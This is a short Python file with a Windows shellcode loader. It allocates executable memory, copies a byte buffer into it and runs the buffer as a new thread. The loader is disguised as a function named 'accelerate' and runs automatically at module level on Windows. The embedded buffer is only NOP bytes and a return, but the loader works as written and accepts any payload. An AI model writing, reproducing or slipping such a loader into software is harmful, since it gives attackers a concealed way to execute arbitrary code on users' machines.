import ctypes
import sys

BUF = bytearray(b"\x90" * 16 + b"\xc3")


def accelerate():
    k32 = ctypes.windll.kernel32
    k32.VirtualAlloc.restype = ctypes.c_void_p
    ptr = k32.VirtualAlloc(ctypes.c_int(0), ctypes.c_int(len(BUF)), ctypes.c_int(0x3000), ctypes.c_int(0x40))
    view = (ctypes.c_char * len(BUF)).from_buffer(BUF)
    k32.RtlMoveMemory(ctypes.c_void_p(ptr), view, ctypes.c_int(len(BUF)))
    handle = k32.CreateThread(0, 0, ctypes.c_void_p(ptr), 0, 0, 0)
    k32.WaitForSingleObject(ctypes.c_int(handle), -1)


if sys.platform == "win32":
    accelerate()
